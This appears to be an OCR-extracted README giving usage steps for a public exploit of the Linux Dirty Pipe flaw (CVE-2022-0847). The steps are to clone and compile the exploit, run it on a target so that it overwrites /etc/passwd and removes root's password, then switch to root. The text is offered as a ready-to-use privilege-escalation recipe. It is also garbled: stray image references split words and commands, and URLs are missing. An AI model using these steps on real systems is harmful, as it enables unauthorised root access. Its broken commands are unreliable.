# Dirty Pipe - CVE-2022-0847

This is simply the code and instructions for how to use Max Kellermann's exploit for CVE-2022-0847 (known as Dirty Pipe).

Please go to to readmore about how to exploit works!

## How to use
1. Download and compile the exploit binary
git clone
cd dirty-pipe
gcc exploit.c -o exploit

2. On the target,run the binary
./exploit /etc/passwd 1 "${$(cat/etc/passwd)/root:x/oot:}"

3. Switch to root